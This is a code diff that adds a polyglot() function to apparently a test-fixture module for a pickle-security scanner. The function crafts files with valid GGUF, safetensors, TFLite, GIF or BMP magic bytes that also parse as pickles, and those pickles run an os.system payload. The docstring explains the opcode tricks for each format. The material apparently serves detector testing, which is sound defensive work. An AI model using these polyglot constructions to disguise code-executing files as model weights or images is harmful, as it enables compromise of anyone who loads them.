@@ -139,3 +139,28 @@ def long_first_argument(kind: str) -> bytes:
     if kind == "proto2-string":
         return b"\x80\x02S'" + DECOY + b"'\n0" + proto0
     raise ValueError(kind)
+
+
+def polyglot(kind: str) -> bytes:
+    """A file whose magic says ``kind`` but which is also a valid pickle running os.system.
+
+    * gguf: ``GGUF`` + 5 bytes is one BINFLOAT opcode (``G`` + 8 bytes);
+    * safetensors: ``C`` SHORT_BINBYTES of 7 bytes makes bytes 0-7 a small little-endian
+      length and byte 8 the ``{`` safetensors needs;
+    * tflite: NEWTRUE POP NEWTRUE, then ``C`` whose length byte is the ``T`` of ``TFL3``;
+    * gif: ``GIF89a`` + 3 bytes is one BINFLOAT after ``G``;
+    * bmp: ``B`` BINBYTES whose 4-byte length starts with the ``M`` of ``BM``.
+    Every prefix value is POPped, so the stream then runs the payload.
+    """
+    pay = system_call(header=False)
+    if kind == "gguf":
+        return b"GGUF\x03\x00\x00\x00\x00" + b"0" + pay
+    if kind == "safetensors":
+        return b"C\x07\x00\x00\x00\x00\x00\x00{" + b"0" + pay + b"N0" * 1000
+    if kind == "tflite":
+        return b"\x880\x88C" + b"TFL3" + b"x" * 80 + b"00" + pay
+    if kind == "gif":
+        return b"GIF89a\x00\x00\x00" + b"0" + pay
+    if kind == "bmp":
+        return b"BM\x00\x00\x00" + bytes(0x4D) + b"0" + pay
+    raise ValueError(kind)
